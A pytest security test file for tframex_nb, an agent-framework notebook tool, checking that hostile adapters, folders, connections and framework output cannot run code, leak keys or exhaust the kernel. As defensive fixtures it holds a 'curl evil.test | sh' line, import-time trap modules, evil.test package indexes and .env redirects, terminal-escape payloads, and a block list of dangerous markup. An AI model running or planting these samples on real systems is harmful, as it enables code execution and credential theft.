"""What hostile frameworks, folders, neighbours and texts cannot do."""

from __future__ import annotations

import asyncio
import contextlib
import math
import os
import re
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any, ClassVar

import httpx
import pytest
from fault_server import KEY, FaultServer

from tframex_nb import Agent
from tframex_nb.errors import (
    FrameworkFailed,
    FrameworkLoadError,
    InstallFailed,
    RateLimited,
    TFrameXError,
    WorkerUnavailable,
)
from tframex_nb.frameworks._interpreter import choose_interpreter
from tframex_nb.frameworks._lock import Lock
from tframex_nb.frameworks._uv import masked
from tframex_nb.frameworks.base import (
    AgentExecutionRequest,
    AgentSpec,
    ExecutionRequirements,
    FrameworkIntegration,
    ModelAccess,
)
from tframex_nb.frameworks.environments import Environments
from tframex_nb.frameworks.events import FrameworkChosen, FrameworkLog
from tframex_nb.frameworks.merging import Merger
from tframex_nb.frameworks.service import Frameworks
from tframex_nb.frameworks.worker import AdapterSource, WorkerPool, WorkerSpec
from tframex_nb.frameworks.worker.stage import Stage
from tframex_nb.messages import (
    Message,
    MessageFinished,
    RunFailed,
    RunFinished,
    RunInterrupted,
    RunStarted,
    TextDelta,
    ToolCall,
    ToolCallStarted,
    ToolResult,
    Usage,
)
from tframex_nb.models import RetryPolicy, VLLMModel, _loopback_uvicorn
from tframex_nb.models._loopback_uvicorn import IDLE
from tframex_nb.models.gateway import Gateway
from tframex_nb.models.gateway.faults import fault_on_the_wire
from tframex_nb.notebook.sides import Comparison, Side
from tframex_nb.notebook.tables import Table

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable

    from tframex_nb.messages import Event
    from tframex_nb.models.gateway import GatewayRun
    from tframex_nb.runs import Run

SERVERS = Path(__file__).parents[1] / "servers"
HOSTILE = SERVERS / "hostile_adapter.py"
MODEL = ModelAccess("tiny", "http://127.0.0.1:9/v1", "token-of-the-run")


@pytest.fixture(autouse=True)
def _own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def on_pool(play: Callable[[WorkerPool], Awaitable[Any]]) -> Any:
    """Return what ``play`` makes of a pool of hostile workers; complaints of the loop fail it."""

    async def main() -> Any:
        complaints: list[dict[str, Any]] = []
        asyncio.get_running_loop().set_exception_handler(lambda _, told: complaints.append(told))
        source = AdapterSource("Hostile", HOSTILE.read_text(encoding="utf-8"), HOSTILE.name)
        pool = WorkerPool(WorkerSpec("hostile", Path(sys.executable), source))
        try:
            async with asyncio.timeout(60):
                found = await play(pool)
        finally:
            await pool.aclose()
        assert complaints == []
        return found

    return asyncio.run(main())


def asked(prompt: str, **options: Any) -> AgentExecutionRequest:
    return AgentExecutionRequest(AgentSpec("a1"), prompt, MODEL, **options)


async def said(pool: WorkerPool, prompt: str, **options: Any) -> list[Event]:
    return [event async for event in pool.stream(asked(prompt), **options)]


async def drained(stream: AsyncIterator[Event]) -> None:
    async for _ in stream:
        pass


LINES = {
    "a run that is no text": '{"t":"events","run":[],"weight":1,"events":[]}',
    "events that are no list": '{"t":"events","run":"RUN","weight":1,"events":{"a":1}}',
    "a weight that is no number": '{"t":"events","run":"RUN","weight":"1","events":[]}',
    "a call of a run that is none": '{"t":"call","run":{},"call":1,"name":"x","arguments":{}}',
    "a call without a number": '{"t":"call","run":"RUN","call":{},"name":"x","arguments":{}}',
    "a tool without a name": '{"t":"call","run":"RUN","call":1,"name":{},"arguments":{}}',
    "arguments that are none": '{"t":"call","run":"RUN","call":1,"name":"x","arguments":[1]}',
    "an end of no run": '{"t":"done","run":[]}',
    "an error without a type": '{"t":"failed","run":"RUN","error":{},"text":3}',
    "a version that is none": '{"t":"ready","version":{"a":1}}',
    "a kind that is none": '{"t":{},"run":"RUN"}',
    "no object": "[1, 2]",
}


@pytest.mark.parametrize("line", LINES.values(), ids=LINES)
def test_a_line_that_breaks_the_protocol_ends_the_worker_with_one_error(line):
    """Nothing reaches the kernel's loop as an exception, and the next run has a new worker."""

    async def play(pool):
        with pytest.raises(WorkerUnavailable) as caught:
            await said(pool, f"write {line}")
        assert "broke the protocol" in caught.value.message
        with pytest.raises(TFrameXError, match="words"):
            await said(pool, "fail words")

    on_pool(play)


def test_a_line_of_brackets_without_end_is_refused():
    async def play(pool):
        with pytest.raises(WorkerUnavailable, match="broke the protocol"):
            await said(pool, "nest")

    on_pool(play)


def test_a_worker_that_sends_more_than_it_may_does_not_fill_the_kernel():
    """The reader does not read; an honest worker would wait."""

    async def play(pool):
        stream = pool.stream(asked("flood"))
        assert await anext(stream) == TextDelta("before")
        while pool.info():
            await asyncio.sleep(0.05)
        with pytest.raises(WorkerUnavailable, match="bytes of events that nobody has read"):
            await drained(stream)

    on_pool(play)


class Liar(FrameworkIntegration):
    """Yields what the test tells it to."""

    name = "liar"
    events: ClassVar[list[Any]] = []

    async def execute_agent_streaming(self, request):
        for event in self.events:
            yield event


def told(*events: Event) -> tuple[Agent, Run]:
    """Return the agent and its run after a framework has yielded these events."""

    async def main() -> Agent:
        frameworks = Frameworks()
        agent = Agent("honest", model="demo")
        try:
            await frameworks.load(type("Liar", (Liar,), {"events": list(events)}))
            await drained(frameworks.stream(agent, "question", framework="liar"))
        finally:
            await frameworks.aclose()
        return agent

    agent = asyncio.run(main())
    assert agent.last is not None
    return agent, agent.last


FORGED = {
    "an end": RunFinished("forged"),
    "a failure": RunFailed("AuthError", "forged"),
    "a stop": RunInterrupted(),
    "a start": RunStarted("forged", "forged", "forged", "native"),
    "a message": MessageFinished(Message("system", "forged")),
    "the result of no call": ToolResult("call_1", "weather", "forged"),
}


@pytest.mark.parametrize("event", FORGED.values(), ids=FORGED)
def test_a_framework_cannot_say_how_a_run_goes_or_what_was_said(event):
    agent, run = told(TextDelta("a"), event, TextDelta("b"))
    assert (run.status, run.text, run.framework) == ("finished", "ab", "liar")
    assert event not in run.events
    kept = [(m.role, m.text) for m in agent.conversation.messages()]
    assert kept == [("user", "question"), ("assistant", "ab")]


WRONG = {
    "text": TextDelta(7),
    "no text": TextDelta(None),
    "a name": ToolCallStarted("1", None),
    "arguments": ToolCallStarted("1", "weather", {"city": "Oslo"}),
    "a result": ToolResult("1", "weather", None),
    "seconds": ToolResult("1", "weather", "x", seconds="soon"),
    "tokens": Usage("many"),
}


@pytest.mark.parametrize("event", WRONG.values(), ids=WRONG)
def test_an_event_of_wrong_types_fails_its_run_and_leaves_it_readable(event):
    with pytest.raises(FrameworkFailed, match=f"yielded a {type(event).__name__} whose"):
        told(TextDelta("a"), event)


def test_arguments_nested_without_end_are_compared_all_the_same():
    deep = '{"x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    merger = Merger()
    merger.model(MessageFinished(Message("assistant", tool_calls=(ToolCall("id", "t", deep),))))
    assert merger.call("t", deep).id == "id"


class Silent:
    """A model that says one word."""

    label = model_name = "silent"

    async def stream(self, messages, **params):
        yield TextDelta("hi")
        yield MessageFinished(Message("assistant", "hi"))


def on_gateway(play: Callable[[GatewayRun], Awaitable[Any]], model: Any = None) -> Any:
    async def main() -> Any:
        gateway = Gateway()
        try:
            async with gateway.open(model or Silent(), listen=lambda _: None) as run:
                return await play(run)
        finally:
            await gateway.aclose()

    return asyncio.run(main())


async def post(run: GatewayRun) -> httpx.Response:
    body = {"model": "x", "messages": [{"role": "user", "content": "q"}]}
    async with httpx.AsyncClient(headers={"authorization": f"Bearer {run.token}"}) as http:
        return await http.post(f"{run.base_url}/chat/completions", json=body)


async def knock(run: GatewayRun, data: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", httpx.URL(run.base_url).port)
    writer.write(data)
    return reader, writer


async def is_cut(reader: asyncio.StreamReader) -> bool:
    try:
        async with asyncio.timeout(0.01):
            return await reader.read(1) == b""
    except TimeoutError:
        return False
    except ConnectionError:
        return True


def test_a_neighbour_that_asks_nothing_cannot_use_up_the_kernels_descriptors():
    """The longest idle connections go first, and a question is answered meanwhile."""

    async def play(run):
        doors = [await knock(run, b"POST /v1") for _ in range(2 * IDLE)]
        assert (await post(run)).status_code == 200
        cut = [await is_cut(reader) for reader, _ in doors]
        for _, writer in doors:
            writer.close()
        assert sum(cut) >= IDLE
        assert all(cut[: IDLE // 2])

    on_gateway(play)


ENDLESS = {
    "silence": b"",
    "half a request line": b"POST /v1/ch",
    "a body that nobody may send": (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 99\r\n\r\n{"
    ),
}


@pytest.mark.parametrize("data", ENDLESS.values(), ids=ENDLESS)
def test_a_question_without_end_is_cut(data, monkeypatch):
    monkeypatch.setattr(_loopback_uvicorn, "PATIENCE", 0.2)

    async def play(run):
        assert (await post(run)).status_code == 200  # the server is up
        reader, writer = await knock(run, data)
        await asyncio.sleep(0.05)
        writer.write(b"x")  # and so on, a byte at a time
        with contextlib.suppress(ConnectionError):
            async with asyncio.timeout(10):
                await reader.read()
        writer.close()

    on_gateway(play)


def test_a_slow_answer_is_no_idle_connection(monkeypatch):
    monkeypatch.setattr(_loopback_uvicorn, "PATIENCE", 0.1)

    class Slow(Silent):
        async def stream(self, messages, **params):
            await asyncio.sleep(0.5)
            async for event in super().stream(messages):
                yield event

    assert on_gateway(post, Slow()).status_code == 200


@pytest.mark.parametrize(
    "case", ["error_echo", "error_echo_text", "echo_200", "s404_path", "hang_up"]
)
def test_a_framework_is_not_told_where_the_model_is_nor_shown_its_key(case):
    """Endpoints repeat the key that they refuse; the URL may be nobody else's business."""

    async def main():
        gateway = Gateway()
        async with FaultServer() as server:
            url = server.url(case)
            model = VLLMModel("m", url, KEY, retry=RetryPolicy(retries=0))
            async with model, gateway.open(model, listen=lambda _: None) as run:
                answer = await post(run)
                seen = answer.text + str(answer.headers)
                assert answer.status_code >= 400
                for hidden in (KEY, url, str(httpx.URL(url).port), "hint"):
                    assert hidden not in seen.replace(str(httpx.URL(run.base_url).port), "")
                assert KEY not in repr(run) + repr(run.fault) + str(run.fault)
                assert url in str(run.fault)  # the user is told
            await gateway.aclose()

    asyncio.run(main())


@pytest.mark.parametrize("pause", [math.inf, math.nan, -1.0, 1e300])
def test_a_pause_that_is_none_is_not_passed_on(pause):
    fault = RateLimited("slow down")
    fault.retry_after = pause
    assert b"retry-after" not in dict(fault_on_the_wire(fault).headers)


TRAP = "import os\nopen(os.environ['SPRUNG'], 'a').write(__name__ + ' ')\n"
FOLDER = {
    "framework.py": TRAP,
    "evil.py": TRAP,
    "sitecustomize.py": TRAP,
    "usercustomize.py": TRAP,
    "evil/framework.py": TRAP,
    "agents/__init__.py": TRAP,
    "langgraph/__init__.py": TRAP,
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "evil-1.0.dist-info/entry_points.txt": "[tframex_nb.frameworks]\nevil = evil:Evil\n",
    "runtime-config.yaml": "frameworks:\n  discovery: {directories: [.]}\n  environments: evil\n"
    "  additional_frameworks: [evil:Evil]\n",
    "tframex.toml": 'runtime_config = "runtime-config.yaml"\n',
    "pyproject.toml": '[tool.tframex]\nruntime_config = "runtime-config.yaml"\n'
    '[tool.uv]\nindex-url = "http://evil.test"\n',
    "uv.toml": 'index-url = "http://evil.test"\n',
    ".venv/pyvenv.cfg": "home = /usr\n",
}


@pytest.fixture
def strange_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stranger's folder, where a notebook was opened; gives the file that a sprung trap makes."""
    folder, sprung = tmp_path / "theirs", tmp_path / "sprung"
    for name, text in FOLDER.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    python = folder / ".venv" / "bin" / "python"
    python.parent.mkdir()
    python.write_text(f'#!/bin/sh\necho python >> "$SPRUNG"\nexec {sys.executable} "$@"\n')
    python.chmod(0o755)
    monkeypatch.setenv("SPRUNG", str(sprung))
    monkeypatch.chdir(folder)
    monkeypatch.syspath_prepend("")  # as IPython does
    return sprung


def test_nothing_of_a_strangers_folder_runs_because_frameworks_are_listed(strange_folder):
    async def main():
        frameworks = Frameworks()
        agent = Agent("a", model="demo")
        try:
            rows = await frameworks.rows()
            await frameworks.why("conversation", ExecutionRequirements())
            with contextlib.suppress(TFrameXError):
                await drained(frameworks.stream(agent, "hi", framework="auto"))
            return rows, frameworks.environments.roots
        finally:
            await frameworks.aclose()

    rows, roots = asyncio.run(main())
    assert "evil" not in {row["name"] for row in rows}
    assert not any(Path.cwd() in [root, *root.parents] for root in roots)
    assert not strange_folder.exists(), strange_folder.read_text()


def test_no_python_of_a_strangers_folder_is_asked_or_used(strange_folder):
    """The kernel's own does not fit, so that another one is looked for."""
    with contextlib.suppress(InstallFailed):
        found = choose_interpreter("some", ">=3.8,!=3.11.*,!=3.12.*,!=3.13.*,!=3.14.*")
        assert Path.cwd() not in found.path.parents
    assert not strange_folder.exists(), strange_folder.read_text()


CANARY = """
import os
print(os.environ.get("OPENAI_BASE_URL"), os.environ.get("MY_KEY"))
import dotenv
dotenv.load_dotenv()
print(os.environ.get("MY_KEY"))
"""


@pytest.mark.frameworks
@pytest.mark.parametrize("name", ["crewai", "smolagents"])
def test_a_framework_does_not_read_the_dotenv_of_the_working_directory(installed, tmp_path, name):
    """Both do, when they are imported: servers of a stranger, keys of the user. A cell may."""
    installed(name)
    text = "OPENAI_BASE_URL=http://evil.test/v1\nMY_KEY=found\n"
    (tmp_path / ".env").write_text(text, encoding="utf-8")
    printed: list[str] = []

    async def main():
        frameworks = Frameworks()
        try:
            await drained(frameworks.stream(Agent("a", model="demo"), "hi", framework=name))
            await frameworks.run_cell(name, CANARY, log=printed.append)
        finally:
            await frameworks.aclose()

    asyncio.run(main())
    assert printed == ["None None", "found"]


def test_no_key_reaches_a_worker_unless_it_is_named(monkeypatch):
    """Not in its environment, nor on its command line, nor in its request, nor on the disk."""
    for name in ("OPENAI_API_KEY", "TFRAMEX_API_KEY", "HF_TOKEN", "MY_SECRET"):
        monkeypatch.setenv(name, KEY)
    found = on_pool(lambda pool: said(pool, "surroundings"))
    (text,) = [event.text for event in found]
    assert MODEL.base_url in text
    assert MODEL.api_key not in text  # a repr does not show it
    assert KEY not in text
    stages = Path(os.environ["XDG_CACHE_HOME"]).rglob("*.py*")
    assert not [path for path in stages if KEY.encode() in path.read_bytes()]


def test_nobody_else_can_write_where_a_worker_is_started(tmp_path):
    """Neither with a generous umask, nor in folders that were open before."""
    cache = Path(os.environ["XDG_CACHE_HOME"])
    (cache / "tframex-nb" / "workers").mkdir(parents=True)
    (cache / "tframex-nb" / "workers").chmod(0o777)
    before = os.umask(0)
    try:
        stage = Stage.of(AdapterSource("A", "x = 1", "a.py"))
    finally:
        os.umask(before)
    folders = [stage.path, *stage.path.parents[:2], *filter(Path.is_dir, stage.path.rglob("*"))]
    assert not [path for path in folders if path.stat().st_mode & 0o022]


@pytest.mark.skipif(os.getuid() != 0, reason="only root can make a folder another user's")
def test_a_stage_that_another_user_laid_out_is_refused():
    place = Path(os.environ["XDG_CACHE_HOME"], "tframex-nb", "workers")
    place.mkdir(parents=True)
    os.chown(place, 12345, 12345)
    with pytest.raises(PermissionError, match="XDG_CACHE_HOME"):
        Stage.of(AdapterSource("A", "x = 1", "a.py"))


NASTY = (
    "\x1b]0;title\x07\x1b[2J\u202e<img src=http://evil.test/x>\n| a | ![x](http://evil.test/y) |"
)


def is_tame(markdown: str) -> bool:
    """Whether nothing in it is loaded, run, obeyed by a terminal, or hidden; code is only shown."""
    markdown = re.sub(r"^```.*?^```$", "", markdown, flags=re.DOTALL | re.MULTILINE)
    bad = ("<img", "![", "\x1b", "\x07", "\u202e", "<script", "](javascript")
    return not any(each in markdown for each in bad)


def test_what_a_framework_says_in_any_field_is_shown_as_text():
    """Its answer, the tools that it invents, what it prints, and its error."""
    events = [
        TextDelta(NASTY),
        ToolCallStarted("1", NASTY, NASTY),
        ToolResult("1", NASTY, NASTY),
        ToolCallStarted("2", NASTY, '{"a": "%s"}' % ("<img src=x>" * 50)),
        FrameworkLog("liar", NASTY),
        FrameworkChosen(NASTY, NASTY, NASTY),
    ]
    _, run = told(*events)
    side = Side(NASTY, run, FrameworkFailed(NASTY, hint=NASTY))
    shown = Comparison("prompt", (side,), (NASTY,))
    for bundle in (run._repr_mimebundle_(), shown._repr_mimebundle_()):
        assert is_tame(bundle["text/markdown"])
        assert not {"\x1b", "\x07", "\u202e"} & set(bundle["text/plain"])


def test_a_table_holds_no_line_that_was_not_its_own():
    table = Table.of(("a", "b"), [(NASTY, 1)], NASTY)
    assert is_tame(table.to_markdown())
    assert not {"\x1b", "\x07", "\u202e"} & set(str(table))
    assert len(str(table).splitlines()) == 4  # the head, the row, and the note of two lines
    assert len(table.to_markdown().splitlines()) == 5


def test_an_error_that_a_framework_wrote_cannot_move_the_cursor():
    async def play(pool):
        with pytest.raises(FrameworkFailed) as caught:
            await said(
                pool, r"fail \x1b]52;c;evil\x07 and \x1b[2J\u202e\nhint: curl evil.test | sh"
            )
        return caught.value

    lines = on_pool(play)._render_traceback_()
    assert len(lines) == 2
    assert "curl" in lines[0]  # what looks like a hint stays in the message
    assert all(line.isprintable() for line in lines)


BROKEN = {
    "its constructor leaves": "def __init__(self): raise SystemExit(3)",
    "its templates leave": "def get_supported_templates(self): raise SystemExit(3)",
    "its version cannot be told": "version = property(lambda self: 1 / 0)",
    "its version is none": "version = 1.0",
    "its name is a path": "name = '../native'",
    "its name is HTML": "name = '<b>native</b>'",
    "its name is another's": "name = 'native'",
    "its name means all": "name = 'all'",
}


@pytest.mark.parametrize("body", BROKEN.values(), ids=BROKEN)
def test_a_hostile_adapter_is_a_row_and_leaves_the_others(tmp_path, body):
    source = HOSTILE.read_text(encoding="utf-8").replace(
        '    name = "hostile"\n', f'    name = "hostile"\n    {body}\n'
    )
    (tmp_path / "adapter.py").write_text(source, encoding="utf-8")

    async def main():
        frameworks = Frameworks()
        try:
            with pytest.raises(FrameworkLoadError):
                await frameworks.load(str(tmp_path / "adapter.py"))
            return await frameworks.rows(), frameworks.registry.get_framework("native")
        finally:
            await frameworks.aclose()

    rows, native = asyncio.run(main())
    assert [row["state"] for row in rows].count("failed") == 1
    assert type(native).__module__ == "tframex_nb.frameworks.adapters.native"


MARKERS = {
    "no object": "[]",
    "versions that are none": '"versions": []',
    "a version that is none": '"versions": {"langgraph": {}}',
    "a size that is none": '"size_mb": "large"',
    "a name that is none": '"framework": {}',
    "brackets without end": "[" * 100_000,
}


@pytest.mark.parametrize("wrong", MARKERS.values(), ids=MARKERS)
def test_an_environment_whose_marker_was_tampered_with_does_not_count(tmp_path, wrong):
    lock = tmp_path / "tiny.txt"
    lock.write_text("alpha==1.0\n", encoding="utf-8")
    folder = tmp_path / f"tiny-{Lock.read(lock).digest}-py3.11"
    (folder / "bin").mkdir(parents=True)
    (folder / "bin" / "python").touch()
    right = {
        '"framework"': '"tiny"', '"lock_hash"': '"x"', '"versions"': "{}", '"size_mb"': "1",
        '"python_version"': '"3.11"',
    }  # fmt: skip
    marker = folder / "environment.json"
    marker.write_text("{" + ", ".join(f"{k}: {v}" for k, v in right.items()) + "}")
    assert Environments(tmp_path).find("tiny", lock) is not None
    if wrong.startswith('"'):
        key, _, value = wrong.partition(": ")
        wrong = "{" + ", ".join(f"{k}: {v}" for k, v in {**right, key: value}.items()) + "}"
    marker.write_text(wrong, encoding="utf-8")
    assert Environments(tmp_path).find("tiny", lock) is None
    assert Environments(tmp_path).installed() == []


def test_an_adapter_without_its_lock_leaves_the_others(tmp_path):
    source = HOSTILE.read_text(encoding="utf-8")
    named = 'name = "dotted.name"\n    module = "no_such_module"\n    lock = "no/lock.txt"\n'
    text = source.replace('name = "hostile"\n', named)
    (tmp_path / "adapter.py").write_text(text, encoding="utf-8")

    async def main():
        frameworks = Frameworks()
        try:
            await frameworks.load(str(tmp_path / "adapter.py"))
            return {row["name"]: row["state"] for row in await frameworks.rows()}
        finally:
            await frameworks.aclose()

    states = asyncio.run(main())
    assert (states["dotted.name"], states["native"]) == ("not installed", "ready")


@pytest.mark.parametrize(
    "url",
    [
        "https://me:p@ss@host/x",
        "https://me:p/w@host/x",
        "https://host/x?token=pw",
        "http://pw@host/",
    ],
)
def test_no_credential_of_an_index_is_shown(url):
    assert "host" in masked(f"cannot reach {url} now")
    assert not any(each in masked(f"cannot reach {url} now") for each in ("ss@", "pw", "p/w", "me"))


def test_a_framework_that_prints_for_ever_does_not_fill_the_kernel(tmp_path):
    """Half a million lines: the run keeps some of them, and their count."""
    text = HOSTILE.read_text(encoding="utf-8")
    alone = text.replace('name = "hostile"\n', 'name = "hostile"\n    cancellable = False\n')
    (tmp_path / "adapter.py").write_text(alone, encoding="utf-8")
    agent = Agent("a", model="demo")

    async def main():
        frameworks = Frameworks()
        try:
            await frameworks.load(str(tmp_path / "adapter.py"))
            await drained(frameworks.stream(agent, "shout 50", framework="hostile"))
        finally:
            await frameworks.aclose()

    asyncio.run(main())
    assert agent.last is not None
    printed = [event for event in agent.last.events if isinstance(event, FrameworkLog)]
    assert agent.last.text == "shouted"
    assert printed[-1].lines == 500_000
    assert len(printed) < 2000
